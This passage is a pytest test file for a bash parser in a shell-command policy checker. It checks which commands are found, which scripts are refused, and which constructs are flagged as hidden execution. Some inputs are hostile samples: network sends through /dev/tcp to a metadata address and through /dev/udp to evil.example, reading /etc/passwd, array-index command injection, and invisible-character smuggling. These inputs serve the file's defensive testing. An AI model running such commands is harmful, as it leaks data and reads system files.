"""Shell scripts by type of syntax: which commands are found, and which scripts are refused."""

from __future__ import annotations

from dataclasses import replace

import pytest

from policy.shell import (
    Assignment,
    NotPrintable,
    Redirection,
    Script,
    SimpleCommand,
    Word,
    printed,
    read_script,
)
from policy.values import Unreadable


def script(text: str) -> Script:
    read = read_script(text)
    assert isinstance(read, Script), read
    return read


def commands(text: str) -> tuple[SimpleCommand, ...]:
    return script(text).commands


def texts(text: str) -> list[list[str]]:
    return [[word.text for word in command.words] for command in commands(text)]


def words(text: str) -> tuple[Word, ...]:
    return commands(text)[0].words[1:]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("git status", [["git", "status"]]),
        ("a; b && c || d | e & f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
        ("a # b; c", [["a"]]),
        ("a#b", [["a#b"]]),
        ("", []),
        ("r''m 'a b' \"c d\"", [["rm", "a b", "c d"]]),
        (r"a \$\(b\) \; \*", [["a", "$(b)", ";", "*"]]),
        ("a \\\n  b\\\nc", [["a", "bc"]]),
        ("a $'\\x72\\155\\u0021\\n'", [["a", "rm!\n"]]),
        ("a '' \"\"", [["a", "", ""]]),
        ("a {b,c}d{1,2} {} {x} {,y}", [["a", "bd1", "bd2", "cd1", "cd2", "{}", "{x}", "y"]]),
        ("a {x}b,c} {} {x},{y},z {},c} {b,c}} x{} {a,b", [
            ["a", "x}b", "c", "{}", "{x},{y},z", "{},c}", "b}", "c}", "x{}", "{a,b"]]),
        ("a \"${x:-{b,c}}\" \"${x-\"b\"}\" \"$(b '{c,d}')\" '{c,d}' \"{c,d}\"",
         [["a", "", "", "", "{c,d}", "{c,d}"], ["b", "{c,d}"]]),
        ("! a; time -p b; time ! c", [["a"], ["b"], ["c"]]),
        ("if a; then b; elif c; then d; else e; fi", [["a"], ["b"], ["c"], ["d"], ["e"]]),
        ("while a; do b; done; until c; do d; done", [["a"], ["b"], ["c"], ["d"]]),
        ("for x in 1 2; do a; done; for ((;;)) { b; }", [["a"], ["b"]]),
        ("case $x in a|'b') c;; (*) d;& esac", [["c"], ["d"]]),
        ("a=(b)\tc; a=(b);(a=(b)) >o; a=(b)>o; a $(coproc { b; }) \"${x-\"${y}, c\"}\"",
         [["c"], [], [], [], [], ["a", "", ""], ["b"]]),
        (">o b; >o 'if'; A=1 >o c time", [["b"], ["if"], ["c", "time"]]),
        ("a $(b && c <<E\nx\nE\nd)", [["a", ""], ["b"], ["c"], ["d"]]),
        ("select x in a; do b; done; coproc c d; coproc N { e; }", [["b"], ["c", "d"], ["e"]]),
        ("(a; { b; })", [["a"], ["b"]]),
        ("f() { a; }; function g { b; }; h() ( c )", [["a"], ["b"], ["c"]]),
        ('a "$(b "$(c)")" `d \\`e\\``', [["a", "", ""], ["b", ""], ["c"], ["d", ""], ["e"]]),
        ('a "${x:-`rm y`}"', [["a", ""], ["rm", "y"]]),
        ('a "${x#<(b)}" ${x/<(c)/}', [["a", "", ""], ["b"], ["c"]]),
        ("a <(b) > >(c)", [["a", "/dev/fd/"], ["b"], ["c"]]),
        ("a <<E\n$(b) `c` \\$(d)\nE\n", [["a"], ["b"], ["c"]]),
        ("a <&- b >&-; c 2>&-|d 3<& -", [["a", "b"], ["c"], ["d"]]),
        ("a <<'E'\n$(b)\nE\nc", [["a"], ["c"]]),
        ("a <<E; b <<-F\nx\nE\n\ty\n\tF\nc", [["a"], ["b"], ["c"]]),
        ("x=$(a) b $((1+2)); c=(1 $(d))", [["b", ""], ["a"], [], ["d"]]),
        ("[[ -f $(a) && (b < c) ]]",
         [["[[", "-f", "", "&&", "(", "b", "<", "c", ")", "]]"], ["a"]]),
        ("[ a = b ]", [["[", "a", "=", "b", "]"]]),
        ("alias x='a b; c'; x d", [["alias", "x=a b; c"], ["x", "d"], ["a", "b"], ["c", "d"]]),
    ],
)  # fmt: skip
def test_every_simple_command_is_found(text: str, found: list[list[str]]) -> None:
    read = script(text)
    assert [[word.text for word in command.words] for command in read.commands] == found
    assert read.gaps == ()
    assert [command.number for command in read.commands] == list(range(1, len(found) + 1))


@pytest.mark.parametrize(
    "text",
    [
        "a 'b", 'a "b', "a \\", "a &&", "a |", "&& a", "; a", "a ;; b", "a && && b", "a)", "(a",
        "{ a",
        "a >", "a > > b", "a >& b c > &", "a 2>& b", "a <& b", "a >&1x", "a >&'b'",
        "a <&-b", "a >& -b", "a=<&-${b-c}", "a 2>&-\\\nb", 'a >&-"b"', "a {b}>&-$c", "a <&-`b`",
        "a\r", "a\x00b", "a\x1b", "a \u200bb", "a\u00a0b", "a \u202eb", "a \ud800", "a e\u0301",
        "a=(b)c", "a=()b c", "a+=(b)$(c)", "a=(b)<(c)", "a=(b)(c)", "declare a=(b)c", "a=(b)#c",
        "a $(coproc b)", "a <(coproc b c)", "coproc N{ b; }",
        'a "${x-"\\${b,c}"}"',
        ">o ! a", "a $(>o ! b)", "a <({n}>o time b)", "a $(2>&1 coproc)", "<a { b", ">o if",
        "a $(b <<E && c; d\nE\n)", "a $( (b <<E | c; d\nE\n) )",
        "a <()", "a >( ) b", "a <(# b\n)",
        'a "${x-"{b,c}"}"', 'a "${x:-"{1..2}$y"}"', "\"`\"{b,c}\"`\"", 'a "`b "{c,d}"`"',
        'a {"${x-"b,c"}",d}', 'a "${x#<(b "{c,d}")}"', "a ${x-{}{b,c}", 'a ${x-"${y-"{b,c}"}"}',
        'a "${x#"$y\\"}"\'{b,c}\'',
        "'' a", "a 1234> b", "a $[1]", "a ${", "a ${x", "a `b", "a <<E", "a <<E\nx", "if a; fi",
        "a $((1", "a(b)", "a ${ b; }", "a $'\\xff'", "a $\\\nx", "&\\\n& b", "a <<\\\n-E\nE\n-E\n",
        "x=1 \\\n2=3 a(b)", "f() a", "time -f a", "ec\\\nho a", "cat <<E $(a\nE\n)",
        "[[ b =~ ^(c ]] && a # x) ]]; b", "[[ b == @(c ]] && a # x) ]]; b", "[[ b =~ (c d) ]]",
    ],
)  # fmt: skip
def test_what_is_no_script_or_not_read_alike_is_refused(text: str) -> None:
    read = read_script(text)
    assert isinstance(read, Unreadable)
    assert len(read.reason) < 120


@pytest.mark.parametrize(
    "text",
    [
        "x='$(a)'; echo \"${x@P}\"",
        "printf -v 'a[$(b)]' c",
        "read 'a[$(b)]'",
        "x='a[$(b)]'; echo $((x))",
        "x='a[$(b)]'; [[ x -eq 1 ]]",
        "x='a[$(b)]'; echo ${!x}",
        "f() { echo $(($1)); }; f 'a[$(b)]'",
        "echo $(( $(a) ))",
        "x='a[$(b)]'; let x",
        'unset "$x"',
        'declare "$x"',
        "declare -i x='a[$(b)]'",
        "cat < /dev/tcp/169.254.169.254/80",
        "echo x > /dev/udp/evil.example/53",
        "exec 3<>/dev/tcp/$x/80",
        "HOME=/etc; cat ~/passwd",
        "read HOME; cat ~/x",
        "a !b",
        "a =b",
        "a >&$x",
        "a >&out$x",
        'a 1>& "out$x"',
        "a >&$(b)",  # bash expands the text once more
        "set -k; a b=c",
        "set -o posix",
        "shopt -s expand_aliases",
        "enable -f x y",
        "hash -p /tmp/x ls",
        "alias ls=rm' '",
        "cd() { :; }; cd /x && a",
        "mapfile -C a -c 1 x",
        "alias x='if'; x a",
        "a=(['$(b)']=1)",
        'a=(["\\$(b)"]=1)',
        "a+=([$'\\x24(b)']=1)",
        "f() { a=([$1]=1); }",
        "[[ -v 'a[$(b)]' ]]",
        "[[ 'a[$''(b)]' -eq 1 ]]",
        "[[ $'a[\\x24(b)]' -eq 1 ]]",
        "x='a[$(b)]'; [[ -v $x ]]",
        "[[ x != \"]]\" && -v 'a[$(b)]' ]]",
        "f() { [[ $1 -eq 1 ]]; }",
        'f() { test -v "$1"; }',
        'f() { test "$1" "$2"; }',
        "[ $(a) -eq 1 ]",
        "for x in a $y; do test -v $x; done",
        "x='b[$(c)]'; test -v 'a[x]'",
        "command command test -v 'a[$(b)]'",
        'f() { printf -v "$1" x; }',
        'f() { read "$1" <<< x; }',
        "read -ax <<< 'a[$(b)]'; echo $((x))",
        "read <<< 'a[$(b)]'; echo $((REPLY))",
        "f() { echo ${!1}; }",
        "f() { local -n x=$1; }",
        "x=$(a); echo $((x)); x=$((1))",
        "x=$((1))'+a[$(b)]'$((1)); echo $((x))",
        "echo $(( ${x:-$(a)} ))",
        "RANDOM='a[$(b)]'",
        "f() { echo $((x)); }; x='a[$(b)]' f",
        "declare -a x='($(b))'",
        'x=(); f() { declare x="$1"; }',
        "declare x*=1",
        "for i in 1; do (( q$i )); done",
        "for i in 1; do [[ ${y:-q}$i -eq 1 ]]; done",
    ],
)
def test_what_may_run_out_of_sight_is_a_gap(text: str) -> None:
    assert script(text).gaps


@pytest.mark.parametrize(
    "text",
    [
        "for ((i=0; i<3; i++)); do a $i; done",
        "set -euo pipefail; a",
        "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done",
        "shopt -s nullglob; a *.txt",
        "find . -name '*.py' ! -name x -exec a {} +",
        "export LANG=C; a",
        'if [ $# -lt 1 ] || [ "$1" = x ]; then a; fi',
        '[ "$(a)" -eq 0 ] && b',
        "x=3; [ $x -gt 2 ] && a",
        '[[ $# -eq 2 && "$1" == x ]]',
        "[[ $x =~ (a|b) && $x =~ ^(c|d)+$ && $x == @(e|f) ]]",
        "declare -A m=([a]=1 ['b c']=2 [\"d-e\"]=3); l=(*.py [0-9]* [^x]*)",
        "for i in 1 2; do [[ -v a[$i] ]]; done",
        'while IFS=, read -r -d "$x" a b; do c "$a"; done < f',
        'read -rp "$x" y; mapfile -t z < f; printf \'%s\\n\' "$y"',
        'f() { local x=$1 y="$2"; declare -r z="$x"; }',
        "a & p=$!; b; wait $p; wait",
        "unset x y a[0]; printf -v x %s a; let n=1",
        "a[0]=x; export A=$(b) C",
        "SECONDS=0; a; echo $((SECONDS / 60))",
    ],
)
def test_everyday_scripts_have_no_gap(text: str) -> None:
    assert script(text).gaps == ()


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("a *.txt", Word("*.txt", "glob", many=True)),
        ("a '*'?[x]", Word("\\*?[x]", "glob", many=True)),
        ("a [x", Word("[x")),
        ("a ~/x", Word("~/x", home=True)),
        ("a '~'/x", Word("~/x")),
        ("a $HOME/x", Word("~/x", home=True)),
        ('a "${HOME}"', Word("~", home=True)),
        ("a ~b/x", Word("", "opaque")),
        ("a b=~/x", Word("b=", "opaque", tail="/x")),
        ("a x/$y", Word("x/", "opaque", many=True)),
        ('a "x/$y"', Word("x/", "opaque")),
        ('a "$@"', Word("", "opaque", many=True)),
        ("a b{1..3}", Word("b", "opaque", many=True)),
        ("a @(x|y)", Word("", "opaque", many=True)),
        ("a $$x", Word("", "opaque", tail="x")),
        ("a $ b", Word("$")),
    ],
)
def test_what_a_word_is_known_to_be(text: str, word: Word) -> None:
    assert words(text)[0] == word


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("a {b,c{d,e{f,}}g}", ["b", "cdg", "cefg", "ceg"]),
        ("a {{b,c},d}{e,f}", ["be", "bf", "ce", "cf", "de", "df"]),
        ("a {,}{b,}", ["b", "b"]),
        ("a }{b,c}},d", ["}b},d", "}c},d"]),
        ("a {'x','{y}'}\"z,\"", ["xz,", "{y}z,"]),
        ("a {b,c" + "{" * 500, [""]),
        ("a {b,c}" + "{" * 500 + "d", [""]),
        ("a x{b,c}{1..3}", ["x"]),
        ("a {b,{1..3}}", [""]),
        ("a " + "{b,c}" * 6, 64),
        ("a " + "{b,c}" * 7, 1),
        ("a {" + "," * 63 + "b}" + "c" * 9, 64),
        ("a {" + "," * 64 + "b}" + "c" * 9, 1),
        ("a " + "{b," * 63 + "}" * 63, 63),
        ("a " + "{b," * 64 + "}" * 64, 1),
    ],
)
def test_braces_are_written_out_as_far_as_a_bound(text: str, found: list[str] | int) -> None:
    written = [word.text for word in words(text)]
    assert (len(written) if isinstance(found, int) else written) == found


def test_alternatives_with_thousands_of_signs_are_not_written_out() -> None:
    alternatives = "{" + ",".join(map(str, range(64))) + "}"
    assert len(words(f"a {alternatives}" + "*x" * 100)) == 64
    assert words(f"a {alternatives}" + "*x" * 1000) == (Word("", "opaque", many=True),)


def test_a_variable_that_surely_holds_a_literal_is_replaced() -> None:
    assert texts('d=/tmp/x; rm -r $d/y "$d"')[1] == ["rm", "-r", "/tmp/x/y", "/tmp/x"]
    assert not commands("a && d=/x; rm $d")[-1].words[1].known
    assert not commands("d=/x; b() { d=/y; }; b; rm $d")[-1].words[1].known


@pytest.mark.parametrize(
    ("text", "redirections"),
    [
        ("a 2> b", [Redirection(">", Word("b"), 2)]),
        ("a2> b", [Redirection(">", Word("b"))]),
        ("a >| b", [Redirection(">|", Word("b"))]),
        ("a <> b", [Redirection("<>", Word("b"))]),
        ("a &>> b", [Redirection("&>>", Word("b"))]),
        ("a >& b", [Redirection("&>", Word("b"))]),
        ("a >&-", [Redirection(">&", Word("-"))]),
        ("a {fd}>b", [Redirection(">", Word("b"))]),
        ("> b", [Redirection(">", Word("b"))]),
        (">f 2>&1 a <in", [
            Redirection(">", Word("f")), Redirection(">&", Word("1"), 2),
            Redirection("<", Word("in"))]),
    ],
)  # fmt: skip
def test_redirections_are_taken_off(text: str, redirections: list[Redirection]) -> None:
    assert [list(command.redirections) for command in commands(text)] == [redirections]


def test_the_redirections_of_a_compound_command_are_one_without_words() -> None:
    first, last = commands("{ a; } > b")
    assert not first.redirections
    assert last.words == () and last.redirections == (Redirection(">", Word("b")),)


def test_standard_input_is_known() -> None:
    assert commands("a <<< 'b c'")[0].stdin == Word("b c\n")
    assert commands("a <<E\nx \\$y\nE\n")[0].stdin == Word("x $y\n")
    assert commands("a <<E\nx $y\nE\n")[0].stdin == Word("x ", "opaque", tail="\n")
    assert commands("a <<E <f\nx\nE\n")[0].stdin == Word("", "opaque")
    assert [command.piped for command in commands("a | b; { c; } < f; d <&3; e")] == [
        False, True, True, False, True, False]  # fmt: skip
    assert commands("exec < f; sh")[1].piped


def test_assignments_go_with_the_commands_that_may_see_them() -> None:
    path = Assignment("PATH", Word("/x"))
    kept = Assignment("PATH", Word("/x"), kept=True)
    assert commands("PATH=/x a")[0].assignments == (path,)
    assert commands("PATH=/x; a; (b)")[1].assignments == (kept,)
    assert commands("PATH=/x; a; (b)")[2].assignments == (kept,)
    assert commands("export PATH=/x; a")[1].assignments == (path,)
    assert commands("f() { a; }; PATH=/x; f")[0].assignments == (kept,)
    assert commands("for i in 1 2; do a; PATH=/x; done")[0].assignments == (kept,)
    assert commands("(PATH=/x); a")[1].assignments == ()
    assert commands("n=1; a $n")[1].assignments == ()
    assert commands("http_proxy=x; a")[1].assignments
    assert commands("X+=/y a")[0].assignments == (Assignment("X", Word("/y"), appends=True),)


@pytest.mark.parametrize(
    ("text", "folders"),
    [
        ("cd x && cd y && a", [(), ("x",), ("x", "y")]),
        ("cd && a", [(), ("~",)]),
        ("cd '~' && a", [(), ("./~",)]),
        ("cd x; a", [(), (), ("x",)]),
        ("cd x && a; b", [(), ("x",), (), ("x",)]),
        ("cd x; cd /y && a", [(), (), ("x",), ("/y",)]),
        ("cd x || a", [(), ()]),
        ("a || cd x && b", [(), (), (), ("x",)]),
        ("! cd x && a", [(), ()]),
        ("a | cd x && b", [(), (), ()]),
        ("(cd x && a); b", [(), ("x",), ()]),
        ("cd x && (a; b)", [(), ("x",), ("x",)]),
        ("cd x & a", [(), ()]),
        ("{ cd x && a; } && b", [(), ("x",), ("x",)]),
        ("if cd x; then a; else b; fi; c", [(), ("x",), (), ("x",), ()]),
        ("for i in 1 2; do a; cd x && b; done; c", [None] * 7),
        ("f() { cd x; }; a", [None, None]),
        ("f() { a; }; f", [(), ()]),
        ("cd - && a", [(), None]),
        ("cd -P x && a", [(), None]),
        ("pushd x && a", [(), ("x",)]),
        ("pushd x; a; popd; b", [(), (), ("x",), (), ("x",), (), ("x",)]),
        ("pushd x && a && popd && b", [(), ("x",), ("x",), ()]),
        ("popd && a", [(), None]),
        ("pushd +1 && popd && a", [(), None, None]),
        ("cd x || exit 1; a", [(), (), ("x",)]),
        ("cd x || { a; exit 1; }; b", [(), (), (), ("x",)]),
        ("cd x || exit 1 | a; b", [(), (), (), (), ("x",)]),
        ("cd x || (exit 1); b", [(), (), (), ("x",)]),
        ("cd x || exit 1 > f; b", [(), (), (), ("x",)]),
        ("cd x || { exit 1; } > f; b", [(), (), (), (), ("x",)]),
        ("cd x || exit 1 2; b", [(), (), (), ("x",)]),
        ("cd x || exit $y; b", [(), (), (), ("x",)]),
        ("cd x || command exit 1; b", [(), (), (), ("x",)]),
        ("cd x || return 1; b", [(), (), (), ("x",)]),
        ("if ! cd x; then exit 1; fi; b", [(), (), ("x",)]),
        ("set -e; cd x; a", [(), (), ("x",)]),
        ("set -e; cd x && a; b", [(), (), ("x",), (), ("x",)]),
        ("set -e; ! cd x; b", [(), (), ("x",), ()]),
        ("set -e; { cd x; a; } && b", [(), (), (), ("x",), (), ("x",)]),
        ("set -e; set +e; cd x; a", [(), (), (), (), ("x",)]),
        ("set -e > f; cd x; a", [(), (), (), ("x",)]),
        ("builtin set -e; cd x; a", [(), (), (), ("x",)]),
        ("time cd x && a", [(), (), ("x",)]),
        ("cd x || time exit 1; a", [(), (), (), ("x",)]),
        ("set -e | a; cd x; b", [(), (), (), (), ("x",)]),
        ("die() { exit 1; }; cd x || die; a", [None, (), (), ("x",)]),
        ("die() { return; exit 1; }; cd x || die; a", [None, None, (), (), (), ("x",)]),
        ("die() { exit 1; }; die() { a; }; cd x || die; a", [None, None, (), (), (), ("x",)]),
        ("f() { cd x; }; cd /y && f && a", [None, None, ("/y",), None]),
        ("while cd x; do a; done; b", [None, None, None]),
        ("command cd x && a", [(), None]),
        ("eval x && a", [(), None]),
        (". x && a", [(), ()]),
        ("$x && a", [(), None]),
        ("cd $x && a", [(), None]),
        ("\\cd x && a", [(), ("x",)]),
    ],
)
def test_a_command_stands_wherever_a_change_of_folder_may_have_led(
    text: str, folders: list[tuple[str, ...] | None]
) -> None:
    assert [command.folders for command in commands(text)] == folders


def test_a_function_is_local_only_where_it_surely_was_defined() -> None:
    assert [command.is_function for command in commands("f; f() { a; }; f x")] == [
        False,
        False,
        True,
    ]
    assert not commands("a && f() { b; }; f")[-1].is_function
    assert not commands("(f() { b; }); f")[-1].is_function
    assert not commands("f() { b; }; unset -f f; f")[-1].is_function


def test_a_command_knows_its_text_and_what_it_stands_in() -> None:
    found = commands("a  'b' >c; d # e\n echo $(f `g`) &")
    assert [each.text for each in found] == ["a  'b' >c", "d", "echo $(f `g`)", "f `g`", "g"]
    assert [each.inside for each in found[2:]] == [(), ("$(…)",), ("$(…)", "$(…)")]


@pytest.mark.parametrize("part", ["$(", "`a`", "(", "{ ", "((", "$((", "${x:-", "if ", "a;", "'a'",
    '"$x"', "coproc ", "[", "~", "=", "{a,", "a <<E\n", "x=1;", "f() {\n", "alias a='b;b';a;",
    "<(", "a=([$a", "[ $x '${", "let a[", "[[ q$", "declare x=(", "read "],
)  # fmt: skip
def test_no_hostile_script_breaks_the_reader(part: str) -> None:
    for count in (1, 40, 20_000):
        assert isinstance(read_script(part * count), Script | Unreadable)


def test_variables_that_double_each_time_are_not_read_to_the_end() -> None:
    for name in ("x", "X"):
        assert isinstance(
            read_script(f"{name}=aa; " + f'{name}="${name}${name}"; ' * 60), Unreadable
        )


def test_the_variable_of_a_loop_over_files_is_one_of_them() -> None:
    word = commands('for f in src/*.py; do a "$f"; done')[0].words[1]
    assert word == Word("src/*.py", "glob")
    whole = commands('for f in *.py; do a "x/$f.bak"; done')[0].words[1]
    assert whole == Word("x/*.py.bak", "glob")
    unknown = Word("", "opaque")
    for script in (
        "for f in *.py; do a $f; done",  # split at the blanks of a name
        'for f in *.py; do f=x; done; a "$f"',
        'for f in *.py; do if b; then f=/etc/passwd; fi; a "$f"; done',
        'for f in *.py; do read f; a "$f"; done',
        'for f in *.py $x; do a "$f"; done',
        'for f in *.py; do while b; do read f; done; a "$f"; done',
        'for f in *.py; do while b; do a "$f"; f=x; done; done',
    ):
        words = next(one for one in commands(script) if one.words and one.words[0].text == "a")
        assert replace(words.words[1], many=False) == unknown, script


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("for f in x y; do a $f; done", ["x", "y"]),
        ("for f in x y; do a b/$f.c; done", ["b/x.c", "b/y.c"]),
        ("for f in {1..3}; do a $f; done", ["1", "2", "3", "{1..3}"]),
        ("for f in x y; do for g in 1 2; do a $f$g; done; done", ["x1", "x2", "y1", "y2"]),
        ("for f in x x; do a $f; done", ["x"]),
        ("d=b; for f in x y; do a $d/$f; done", ["b/x", "b/y"]),
        ("d=b; while c; do a $d; done", ["b"]),
        ('for f in x *.py; do a "$f"; done', ["x", "*.py"]),
        ("for f in x y; do a $f; f=z; done", ["x", "y"]),
        ("for f in x y; do f=z; a $f; done", [""]),
        ("d=b; for f in x; do a $d; d=c; done", [""]),
        ("d=b; for f in x; do a $d; read d; done", [""]),
        ("d=b; for f in x; do a $d; read 'd'; done", [""]),
        ("d=b; for f in x; do a $d; for d in y; do c; done; done", [""]),
        ("d=b; while c; do a $d; : ${d:=e}; done", [""]),
        ("d=b; while c; do a $d; eval e; done", [""]),
        ("for f in x y; do c; done; a $f", [""]),
        ("for f in $(x); do a $f; done", [""]),
        ("for i in $(seq 1 9); do a b$i.c; done", ["b*.c"]),
        ("for i in $(seq 1 9) $(x); do a b$i.c; done", ["b"]),
        ("for i in $(seq 1 9); do i=/x; a b$i.c; done", ["b"]),
        ("for i in $(seq 1 9); do c; done; a b$i.c", ["b"]),
        ("for i in {1..99}; do a b$i.c; done", ["b*.c"]),
        ("g() { d=c; }; d=b; a $d", [""]),
        ("for f in x y; do cat <<E; a $f; done\nz\nE", [""]),
        ("for f in x y; do cat <<E\nz\nE\na $f; done", ["x", "y"]),
    ],
)
def test_a_loop_is_read_once_for_each_value_that_it_surely_has(text: str, words: list[str]) -> None:
    found = [one.words[1].text for one in commands(text) if one.words[:1] == (Word("a"),)]
    assert found == words


def test_loops_in_loops_are_read_in_bounded_time() -> None:
    for loop in ("for f in 1 2 3; do ", "x=1; while a; do ", "x=1; for f in 1 2; do x=2; "):
        read = read_script(loop * 25 + "b; " + "done; " * 25)
        assert isinstance(read, Script)
        assert len(read.commands) < 2_000


@pytest.mark.parametrize(
    ("text", "computes"),
    [
        ("n=$(ls | wc -l); echo $((n+1))", False),
        ("[ $(wc -l < f) -gt 1 ]", False),
        ("echo $(( $(grep x f | wc -l) + 1 ))", False),
        ("n=$(ls 2>/dev/null | wc -l); [ $n -gt 1 ]", False),
        ("for i in $(seq 1 9); do echo $((i * 2)); done", False),
        ("for i in $(seq 1 9) $(x); do echo $((i * 2)); done", True),
        ("n=$(cat f); echo $((n+1))", True),
        ("n=$(cat f; ls | wc -l); echo $((n+1))", True),
        ("n=$(cat f || ls | wc -l); echo $((n+1))", True),
        ("n=$(cat f & wc -l); echo $((n+1))", True),
        ("n=$(cat f\nwc -l); echo $((n+1))", True),
        ("n=$({ cat f; } | wc -l x); echo $((n+1))", True),
        ("n=$(echo 'x | wc -l'); echo $((n+1))", True),
        ("n=$(echo x \\| wc -l); echo $((n+1))", True),
        ("n=$(wc -l f); echo $((n+1))", True),
        ("n=$(wc -l 2>&1); echo $((n+1))", True),
        ("wc() { cat f; }; n=$(ls | wc -l); echo $((n+1))", True),
        ("n=$(ls | wc -l); echo $((n+1)); wc() { cat f; }", True),
        ("alias wc=cat; n=$(ls | wc -l); echo $((n+1))", True),
        ("eval x; n=$(ls | wc -l); echo $((n+1))", True),
        ("n=$(ls | wc -l)$(cat f); echo $((n+1))", True),
        ("n=$(ls | wc -l); n=$(cat f); echo $((n+1))", True),
    ],
)
def test_what_surely_prints_a_number_is_no_text_that_arithmetic_runs(
    text: str, *, computes: bool
) -> None:
    read = read_script(text)
    assert isinstance(read, Script)
    assert bool(read.gaps) is computes


@pytest.mark.parametrize(
    ("handler", "may_change"),
    [
        ("trap 'rm -f x' EXIT", False),
        ("trap 'cd /' EXIT", False),
        ("trap 'rm -f \"$x\"; exit 1' INT TERM", False),
        ("trap 'echo failed >&2' ERR", False),
        ("trap - INT", False),
        ("trap 'cd /' INT", True),
        ("trap 'cd /' EXIT INT", True),
        ("trap 'x=1' DEBUG", True),
        ("trap 'printf -v x y' DEBUG", True),
        ("trap -- '-p x; cd /' DEBUG", True),
        ("trap -p", False),
        ("trap 'c\\d /' DEBUG", True),
        ('trap "$x" INT', True),
        ("g() { cd /; }; trap g INT", True),
        ("trap g INT; g() { cd /; }", True),
        ("trap 'echo $(x)' INT", True),
    ],
)
def test_a_trap_that_may_change_the_shell_at_any_time_is_a_gap(
    handler: str, *, may_change: bool
) -> None:
    read = read_script(handler)
    assert isinstance(read, Script)
    assert bool(read.gaps) is may_change


@pytest.mark.parametrize(
    "text", ["[[ b == @(c|<(a)) ]]", "[[ b =~ ^(c|>(a)) ]]", "[[ b =~ (<(a)) ]]", "[[ b == <(a) ]]"]
)
def test_a_process_substitution_runs_in_a_pattern_too(text: str) -> None:
    read = read_script(text)
    assert isinstance(read, Script)
    assert [[word.text for word in each.words] for each in read.commands][1:] == [["a"]]


def test_a_process_substitution_is_a_pipe_and_no_file() -> None:
    diff = commands("diff <(sort a) >(b)")
    assert [word.pipe for word in diff[0].words] == [False, True, True]
    assert [one.words[0].text for one in diff] == ["diff", "sort", "b"]
    assert not commands('cat "<(a)" x<(b)')[0].words[1].pipe
    assert not commands("cat x<(b)")[0].words[1].pipe


def test_a_script_that_sets_hundreds_of_variables_cannot_be_read() -> None:
    few = "".join(f"export V{number}=1\n" for number in range(100))
    assert isinstance(read_script(few + "ls"), Script)
    found = read_script("".join(f"f{number}() {{ V{number}=1; ls; }}\n" for number in range(300)))
    assert found == Unreadable(reason="a script that sets too many variables")


@pytest.mark.parametrize(
    "body", ["trap x EXIT; (", "f() { ls; }; if", "trap x EXIT; f() { ls; }; ("]
)
def test_what_an_alias_that_cannot_be_read_defined_is_forgotten(body: str) -> None:
    read = read_script(f"alias q='{body}'\nq\n")
    assert isinstance(read, Script)
    assert any("alias" in gap for gap in read.gaps)


@pytest.mark.parametrize(
    ("text", "concurrent", "repeats"),
    [
        ("a; b && c || d", False, False),
        ("(a; b); { c; }; ! d", False, False),
        ("if a; then b; fi; case x in a|b) c;; esac", False, False),
        ("a 2>&1 &> f; b >& f; c >| f; [[ a || b ]]; ((x = 1 | 2 & 3))", False, False),
        ("a 's/x/f()/' \"for x | y &\" # while | & $(b)", False, False),
        ("a 'for' 'while' `: `", True, False),
        ("a <<'E'\nfor x | y & $(b)\nE", False, False),
        ("a | b", True, False),
        ("a |& b", True, False),
        ("a & b", True, False),
        ("x=$(a)", True, False),
        ('a "${x:-$(b)}"', True, False),
        ("a <(b)", True, False),
        ("a > >(b)", True, False),
        ("a <<E\n$(b)\nE", True, False),
        ("((x = $(a)))", True, False),
        ("[[ $(a) ]]", True, False),
        ("coproc a", True, False),
        ("for x in 1 2; do a; done", False, True),
        ("for ((;;)) { a; }", False, True),
        ("select x in a; do b; done", False, True),
        ("while a; do b; done", False, True),
        ("until a; do b; done", False, True),
        ("f() { a; }", False, True),
        ("function f { a; }", False, True),
        ("trap 'a' EXIT", False, True),
        ("builtin trap a 0", False, True),
        ("a; alias b='while c; do d; done'\nb", False, True),
        ("for x in 1 2; do for y in 3 4; do a | b; done; done", True, True),
    ],
)
def test_what_runs_beside_others_or_again_is_known(
    text: str,
    concurrent: bool,
    repeats: bool,
) -> None:
    for each in (text, f"if true; then {text}\nfi", f"x=1; y='|'\n{text}"):
        read = script(each)
        assert (read.concurrent, read.repeats) == (concurrent, repeats)


@pytest.mark.parametrize(
    "text",
    [
        "echo '\u26a0\ufe0f done'",
        'git commit -m "\u2728\ufe0f new: $x"',
        "cat > a.py <<'E'\nprint('\u2714\ufe0e')\nE",
        "cat > a.py <<E\n\u2714\ufe0f $x\nE",
        "ls # \u26a0\ufe0f slow",
        "f() { echo '\u26a0\ufe0f'; }; x='\u26a0\ufe0f'; f \"$x\"",
    ],
)
def test_a_character_that_only_draws_an_emoji_is_read_in_quotes(text: str) -> None:
    read = read_script(text)
    assert isinstance(read, Script)
    assert not read.gaps
    form = printed(text)
    assert isinstance(form, str)
    assert read_script(form) is not None


@pytest.mark.parametrize(
    "text",
    [
        "rm\ufe0f x",
        "r\ufe0fm x",
        "cat a\ufe0f.txt",
        "x\ufe0f=1",
        "echo ${x\ufe0f}",
        'echo "${x:-a\ufe0f}"',
        "f\ufe0f() { a; }",
        "for x in a\ufe0f; do b; done",
        "case x in a\ufe0f) b;; esac",
        "[[ a\ufe0f == b ]]",
        "echo 'a' > b\ufe0f",
        "echo $((1\ufe0f))",
        "echo 'a\u200db'",
        "echo 'a\u200bb'",
        "echo 'a\u202eb\ufe0f'",
        "echo 'a\ufe00'",
        "echo 'e\ufe0f\u0301'",
        "cat <<'E'\na\u2066b\nE",
    ],
)
def test_other_invisible_characters_are_refused(text: str) -> None:
    assert isinstance(read_script(text), Unreadable)
    assert isinstance(printed(text), NotPrintable)


@pytest.mark.parametrize(
    "text",
    [
        "a $!",
        'a "$!"',
        "a $$; a $#",
        "b & PID=$!; a $PID",
        'b & PID="$!"; a "$PID"',
        "a $(pgrep server)",
        "a $(pgrep -f 'node server' 2>/dev/null)",
        "a $(pgrep -x -u me b | head -1)",
        "a $(lsof -ti:3000)",
        "a $(lsof -nP -t -i :80 -sTCP:LISTEN)",
        "a $(lsof -ti tcp:8080)",
        "PIDS=$(pidof b); a $PIDS",
        "a $(wc -l < f)",
    ],
)
def test_a_number_of_a_process_is_a_number(text: str) -> None:
    read = script(text)
    assert not read.gaps
    for command in read.commands:
        if command.words and command.words[0].text == "a":
            assert [word.number for word in command.words[1:]] == [True]


@pytest.mark.parametrize(
